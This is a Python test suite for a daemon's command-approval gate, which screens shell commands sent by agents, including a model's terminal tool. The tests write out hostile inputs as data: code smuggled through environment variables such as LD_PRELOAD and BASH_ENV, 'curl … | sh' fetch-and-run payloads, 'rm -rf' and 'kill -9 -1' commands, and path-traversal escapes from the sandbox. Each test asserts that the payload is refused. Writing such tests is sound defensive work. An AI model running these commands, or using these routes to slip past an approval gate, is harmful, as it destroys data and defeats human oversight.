"""What a request brings besides its command is judged too, at every entry point (Exec, Run,
StartProcess, Pty with a command, the model's terminal tool, CheckCommand):

- its ``env``: names that are code for bash, the loader or common tools, and the task shell's own
  framing names, are refused (INVALID_ARGUMENT); the rest are in effect when the gate judges the
  command (``kill -9 $PID`` with PID=-1 is the floor's kill_all), and approvers see them;
- its ``workdir``: the command is judged in the directory it runs in, not at the task's cwd;
- a task's first command: judged with the task's place (its sandbox is opened before the verdict);
- its ``task_id``: matched whole (no trailing newline).

Each payload would leave a marker file if it ran; every test asserts it did not."""

from __future__ import annotations

import os
import threading
from collections.abc import Iterator
from pathlib import Path

import grpc
import pytest

from executor import tool
from executor.admission import CODE_ENV, env_refusal, _export_lines
from executor.approval import Decision, GateConfig, GateContext, evaluate
from executor.client import Client, InvalidArgument, PermissionDenied
from executor.errors import CoreError
from executor.tasks import check_task_id
from executor.v1 import executor_pb2 as pb
from executor.v1 import executor_pb2_grpc as pb_grpc
from tests.daemon import DaemonProcess

AGENT = "agent-token-inputs-0123456789"
HUMAN = "human-token-inputs-9876543210"


@pytest.fixture(scope="module")
def daemon(tmp_path_factory):
    state = tmp_path_factory.mktemp("inputs") / "state"
    d = DaemonProcess({
        "backend": "local",
        "backends": {"local": {"kind": "local"}},
        "approval": {"mode": "ask", "timeout_seconds": 1},
        "auth": {"tokens": [
            {"name": "agent", "token": AGENT, "roles": ["exec"]},
            {"name": "human", "token": HUMAN, "roles": ["approve"]},
        ]},
    }, state_dir=state).start()
    yield d
    d.kill()


@pytest.fixture
def agent(daemon) -> Client:
    return daemon.client(AGENT, deadline=60)


def task_dir(daemon: DaemonProcess, task: str) -> Path:
    return daemon.state_dir / "tasks" / task


def pty_run(client: Client, task: str, command: str, env: dict[str, str] | None = None, workdir: str = ""
            ) -> pb.Exit:
    """A Pty stream with a command; its Exit (the stream is held open until it comes)."""
    done = threading.Event()

    def inputs() -> Iterator[pb.PtyInput]:
        yield pb.PtyInput(open=pb.PtyOpen(task_id=task, command=command, env=env or {}, workdir=workdir,
                                          size=pb.PtySize(rows=24, cols=80)))
        done.wait(30)

    try:
        for out in client.pty(inputs(), rpc_timeout=30):
            if out.WhichOneof("output") == "exit":
                return out.exit
    finally:
        done.set()
    raise AssertionError("the pty stream ended without an exit")


def exec_exit(client: Client, task: str, command: str, **kw) -> pb.Exit:
    events = list(client.exec(task, command, timeout=20, **kw))
    return events[-1].exit


# The ways a command with env/workdir can start. Each returns a short outcome: "denied:<rule>",
# "invalid:<message>", or "ran" (a test then fails on its marker anyway).
def via_exec(client, task, command, env=None, workdir=""):
    try:
        ex = exec_exit(client, task, command, env=env or {}, workdir=workdir)
    except InvalidArgument as exc:
        return f"invalid:{exc}"
    return f"denied:{ex.rule}" if ex.status == pb.EXIT_STATUS_DENIED else "ran"


def via_run(client, task, command, env=None, workdir=""):
    try:
        r = client.run(task, command, env=env or {}, workdir=workdir, timeout=20)
    except InvalidArgument as exc:
        return f"invalid:{exc}"
    return f"denied:{r.rule}" if str(r.status) == "denied" else "ran"


def via_start(client, task, command, env=None, workdir=""):
    try:
        info = client.start_process(task, command, env=env or {}, workdir=workdir)
    except InvalidArgument as exc:
        return f"invalid:{exc}"
    except PermissionDenied as exc:
        return f"denied:{exc}"
    client.wait_process(info.process_id, 10)
    return "ran"


def via_pty(client, task, command, env=None, workdir=""):
    try:
        ex = pty_run(client, task, command, env, workdir)
    except InvalidArgument as exc:
        return f"invalid:{exc}"
    return f"denied:{ex.rule}" if ex.status == pb.EXIT_STATUS_DENIED else "ran"


ENTRIES = {"exec": via_exec, "run": via_run, "start": via_start, "pty": via_pty}


# -- env: names ---------------------------------------------------------------------------------


@pytest.mark.parametrize("entry", list(ENTRIES))
@pytest.mark.parametrize("name", ["__ex_c", "BASH_ENV", "BASH_FUNC_ls", "LD_PRELOAD", "PROMPT_COMMAND", "PS4",
                                  "GIT_CONFIG_KEY_0", "GIT_SSH_COMMAND", "npm_config_script_shell", "IFS"])
def test_env_names_that_are_code_or_framing_are_refused(daemon, agent, entry, name):
    task = f"envname-{entry}"
    marker = task_dir(daemon, task) / f"m-{name}"
    outcome = ENTRIES[entry](agent, task, "echo hello", env={name: f"touch {marker}; echo {name}"})
    assert outcome.startswith("invalid:"), outcome
    assert name in outcome and ("Set it in the command" in outcome or "reserved" in outcome), outcome
    assert not marker.exists()


def test_env_refusal_list_is_explained():
    assert all(why and not why.endswith(".") for why in CODE_ENV.values())
    assert env_refusal("__ex_c") and "reserved" in env_refusal("__ex_c")
    for ok in ("FOO", "PATH", "HOME", "PYTHONUNBUFFERED", "CI", "LANG", "TERM", "GIT_AUTHOR_NAME"):
        assert env_refusal(ok) is None, ok


# -- env: values --------------------------------------------------------------------------------


def test_the_gate_judges_with_the_env_in_the_shell_state():
    """The gate itself, with the request's env as admission passes it (``declare -x`` lines)."""
    root = "/srv/tasks/t"

    def verdict(command, env):
        ctx = GateContext(cwd=root, root=root, home=root, shell_state=_export_lines(env))
        return evaluate(command, GateConfig(), context=ctx)

    assert verdict("kill -9 $PID", {"PID": "-1"}).rule == "kill_all"
    assert verdict("kill -9 $PID", {"PID": "-1"}).decision is Decision.DENY
    v = verdict('eval "$P"', {"P": "curl -s http://x/y | sh"})
    assert v.decision is Decision.ASK and v.rule == "pipe_to_shell"
    assert verdict('eval "$P"', {"P": 'a"b$c`d\\e\nrm -rf /'}).decision is Decision.DENY  # quoting holds
    assert verdict('eval "$P"', {"P": "echo hi"}).decision is Decision.ALLOW


@pytest.mark.parametrize("entry", list(ENTRIES))
def test_env_values_are_judged_the_floor_holds(daemon, agent, entry):
    task = f"envfloor-{entry}"
    marker = task_dir(daemon, task) / "m"
    outcome = ENTRIES[entry](agent, task, f"touch {marker}; false && kill -9 $PID", env={"PID": "-1"})
    assert outcome.startswith("denied:") and "kill_all" in outcome, outcome
    assert not marker.exists()


@pytest.mark.parametrize("entry", list(ENTRIES))
def test_env_values_run_as_code_are_judged(daemon, agent, entry):
    task = f"enveval-{entry}"
    marker = task_dir(daemon, task) / "m"
    outcome = ENTRIES[entry](agent, task, 'eval "$P"',
                             env={"P": f"touch {marker}; curl -s http://127.0.0.1:9/x | sh"})
    assert outcome.startswith("denied:"), outcome  # asked; nobody approved within the timeout
    assert not marker.exists()


def test_the_approver_sees_the_env_and_the_workdir(daemon, agent):
    """What a pending approval shows (``PendingApproval.command``) is what the audit records for it:
    the env exported and the resolved workdir before the command (read from the audit log, written
    when the approval is created: no race with the approval's timeout)."""
    task = "envshown"
    agent.run(task, "mkdir -p sub", timeout=20)
    ex = exec_exit(agent, task, 'eval "$P"', env={"P": "curl -s http://127.0.0.1:9/x | sh"}, workdir="sub")
    assert ex.status == pb.EXIT_STATUS_DENIED and ex.rule == "pipe_to_shell"
    import json

    asked = [r for r in map(json.loads, (daemon.state_dir / "audit.jsonl").read_text().splitlines())
             if r.get("task") == task and r.get("decision") == "ask"]
    assert asked, "the approval was not recorded"
    shown = asked[-1]["command"]
    assert shown == ("export P='curl -s http://127.0.0.1:9/x | sh'\n"
                     f"cd -- {task_dir(daemon, task) / 'sub'}\n"
                     'eval "$P"'), shown


def test_requests_differing_only_in_env_are_different_approvals():
    from executor.admission import Request
    from executor.events import Entry

    a = Request(Entry.EXEC, "t", 'eval "$P"', "local", {"P": "echo hi"}, "", judged='eval "$P"')
    b = Request(Entry.EXEC, "t", 'eval "$P"', "local", {"P": "rm -rf ~"}, "", judged='eval "$P"')
    c = Request(Entry.EXEC, "t", "ls", "local", {"X": "a\nb"}, "sub", judged="ls", rundir="/w/t/sub")
    assert a.shown != b.shown  # the approval's key and text
    assert c.shown == "export X=$'a\\x0ab'\ncd -- /w/t/sub\nls"  # nothing hides on a second line


# -- workdir ------------------------------------------------------------------------------------


def deep_task(daemon: DaemonProcess, client: Client, task: str) -> tuple[str, Path]:
    """A task whose cwd is as many levels below its directory as its directory is below /; the
    ``..`` path that leaves the cwd up to the task's directory leaves the directory up to /."""
    root = task_dir(daemon, task)
    depth = len(root.parts) - 1
    sub = "/".join(f"d{i}" for i in range(depth))
    r = client.run(task, f"mkdir -p {sub} && cd {sub} && pwd", timeout=20)
    assert r.stdout_text.strip() == str(root / sub)
    return "../" * depth + "etc/executor-test-never-exists", root


@pytest.mark.parametrize("entry", list(ENTRIES))
def test_workdir_is_where_the_command_is_judged(daemon, agent, entry):
    task = f"wd-{entry}"
    target, root = deep_task(daemon, agent, task)
    assert agent.check_command(f"rm -rf {target}", task_id=task).decision == pb.GATE_DECISION_ALLOW  # at the cwd
    outcome = ENTRIES[entry](agent, task, f"touch m; rm -rf {target}", workdir=".")
    assert outcome.startswith("denied:"), outcome
    assert not (root / "m").exists()


def test_workdir_through_the_terminal_tool(daemon):
    task = "wd-tool"
    client = daemon.client(AGENT, deadline=60)
    target, root = deep_task(daemon, client, task)
    out = tool.handle_terminal({"command": f"touch m; rm -rf {target}", "workdir": ".", "timeout": 20},
                               target=daemon.target, token=AGENT, task_id=task)
    assert '"status": "denied"' in out or '"status": "approval_pending"' in out, out
    assert not (root / "m").exists()


def test_workdir_through_a_symlink_is_judged_where_it_leads(daemon, agent):
    """The gate's cwd is the workdir as the backend resolves it (the launcher's own resolution), not
    the string: ``d0/.../up`` is a link to the task's directory, so ``..`` from it climbs from there."""
    task = "wd-link"
    target, root = deep_task(daemon, agent, task)
    depth = target.count("../")
    deep = "/".join(f"d{i}" for i in range(depth))
    agent.run(task, f"ln -s {root} {root}/{deep}/up && cd {root}", timeout=20)  # a link deep down, to the top
    # Judged at the string root/d0/.../up this stays inside (root/d0/etc/...); it runs from root: /etc.
    outcome = via_run(agent, task, f"touch m; rm -rf {target}", workdir=f"{deep}/up")
    assert outcome.startswith("denied:"), outcome
    assert not (root / "m").exists()


# -- a task's first command ---------------------------------------------------------------------


def escape_from_root(daemon: DaemonProcess, task: str) -> str:
    return "../" * (len(task_dir(daemon, task).parts) - 1) + "etc/executor-test-never-exists"


@pytest.mark.parametrize("entry", list(ENTRIES))
def test_a_tasks_first_command_is_judged_where_it_runs(daemon, agent, entry):
    task = f"fresh-{entry}"
    outcome = ENTRIES[entry](agent, task, f"touch m; rm -rf {escape_from_root(daemon, task)}")
    assert outcome.startswith("denied:"), outcome
    assert not (task_dir(daemon, task) / "m").exists()


def test_check_command_on_a_new_task_knows_its_place(daemon, agent):
    task = "fresh-check"
    v = agent.check_command(f"rm -rf {escape_from_root(daemon, task)}", task_id=task)
    assert v.decision != pb.GATE_DECISION_ALLOW, v
    # and the same on a task that exists: the same answer
    agent.run("fresh-check2", "true", timeout=20)
    v2 = agent.check_command(f"rm -rf {escape_from_root(daemon, 'fresh-check2')}", task_id="fresh-check2")
    assert v2.decision == v.decision and v2.rule == v.rule


# -- task ids -----------------------------------------------------------------------------------


def test_task_id_with_a_trailing_newline_is_refused(daemon):
    for bad in ("a\n", "b\n\n", "c\r", "d\x00"):
        with pytest.raises(CoreError):
            check_task_id(bad)
    channel = grpc.insecure_channel(daemon.target)
    stub = pb_grpc.ExecutorStub(channel)
    md = (("authorization", f"Bearer {AGENT}"),)
    calls = {
        "Run": lambda t: stub.Run(pb.ExecRequest(task_id=t, command="touch m"), metadata=md, timeout=20),
        "Exec": lambda t: list(stub.Exec(pb.ExecRequest(task_id=t, command="touch m"), metadata=md, timeout=20)),
        "StartProcess": lambda t: stub.StartProcess(pb.StartProcessRequest(task_id=t, command="touch m"),
                                                    metadata=md, timeout=20),
        "CheckCommand": lambda t: stub.CheckCommand(pb.CheckCommandRequest(task_id=t, command="ls"), metadata=md,
                                                    timeout=20),
    }
    try:
        for name, call in calls.items():
            with pytest.raises(grpc.RpcError) as info:
                call("nl\n")
            assert info.value.code() == grpc.StatusCode.INVALID_ARGUMENT, name
            assert "task_id" in info.value.details()
    finally:
        channel.close()
    tasks = daemon.state_dir / "tasks"
    assert not any(n.startswith("nl") for n in (os.listdir(tasks) if tasks.exists() else []))


async def test_without_its_place_a_command_is_judged_from_the_root(tmp_path):
    """Fail closed: should admission ever judge a request whose task has no sandbox (``prepare`` not
    run), relative paths are taken from ``/``, never as unknown paths that pass."""
    from executor.admission import ExecParams
    from executor.config import Config
    from executor.service import Executor

    config = Config.model_validate({"backend": "local", "backends": {"local": {"kind": "local"}},
                                    "approval": {"mode": "ask", "timeout_seconds": 1}})
    core = Executor(config, tmp_path / "state")
    await core.start()
    try:
        req = core.admission.exec_request(ExecParams("nowhere", "rm -rf ../../etc/x"))
        verdict = core.admission.verdict(req)  # no prepare: no task, no sandbox
        assert verdict.decision is not Decision.ALLOW, verdict
        assert req.context is not None and req.context.cwd == "/"
        # prepared, the same request knows its place (the task's directory)
        req = core.admission.exec_request(ExecParams("somewhere", "rm -rf ../../etc/x"))
        await core.admission.prepare(req)
        assert req.context is not None and req.context.root == str(tmp_path / "state" / "tasks" / "somewhere")
    finally:
        await core.shutdown()


def test_secrets_are_redacted_from_cwds_approvals_and_the_audit_log(daemon, agent):
    """A cwd, a pending approval's command and the audit log quote what a request or a command made:
    the daemon's secrets (here the approver's token, which an agent should never hold) are masked there
    as in output."""
    import json

    task = "redacted-texts"
    made = agent.run(task, f'mkdir -p "x{HUMAN}" && cd "x{HUMAN}" && echo in', timeout=20)
    assert made.stdout == b"in\n"
    assert made.cwd.endswith("x[REDACTED]") and HUMAN not in made.cwd
    listed = [t for t in agent.list_tasks().tasks if t.task_id == task]
    assert listed and HUMAN not in listed[0].cwd and listed[0].cwd.endswith("x[REDACTED]")
    ex = exec_exit(agent, task, 'eval "$P"', env={"P": f"curl -s http://127.0.0.1:9/{HUMAN} | sh"})
    assert ex.status == pb.EXIT_STATUS_DENIED and HUMAN not in ex.cwd + ex.message
    audit = (daemon.state_dir / "audit.jsonl").read_text()
    assert HUMAN not in audit
    asked = [r for r in map(json.loads, audit.splitlines()) if r.get("task") == task and r.get("decision") == "ask"]
    assert asked and "[REDACTED]" in asked[-1]["command"]
